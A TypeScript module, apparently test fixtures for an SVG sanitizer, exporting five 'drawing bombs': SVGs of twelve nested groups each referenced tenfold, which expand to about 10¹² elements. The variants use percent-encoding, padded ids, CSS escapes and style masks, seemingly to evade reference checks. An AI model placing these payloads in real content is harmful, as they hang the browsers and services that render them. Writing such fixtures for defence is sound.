/**
 * Drawings that would stop a browser.
 *
 * @module
 */

/** A few kilobytes that come to 10¹² elements. */
function nest(refer: (id: string) => string): string {
  const groups = Array.from({ length: 12 }, (_, at) => {
    return `<g id="g${at + 1}">${refer(`g${at}`).repeat(10)}</g>`
  })
  const all = `<g id="g0"><rect width="9" height="9"/></g>${groups.join('')}`
  return `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">${all}</svg>`
}

/** Each refers in another way. */
export const DRAWING_BOMBS: readonly string[] = [
  nest((id) => `<use href="#${id}"/>`),
  nest((id) => `<use href="#%67${id.slice(1)}"/>`),
  nest((id) => `<use href="#${id}"/>`)
    .replaceAll('"g', '" g')
    .replaceAll('#g', '# g'),
  nest((id) => `<rect width="9" height="9" style="mask:url(\\23 ${id})"/>`),
  nest((id) => `<style>rect{mask:url(#${id})}</style>`),
]
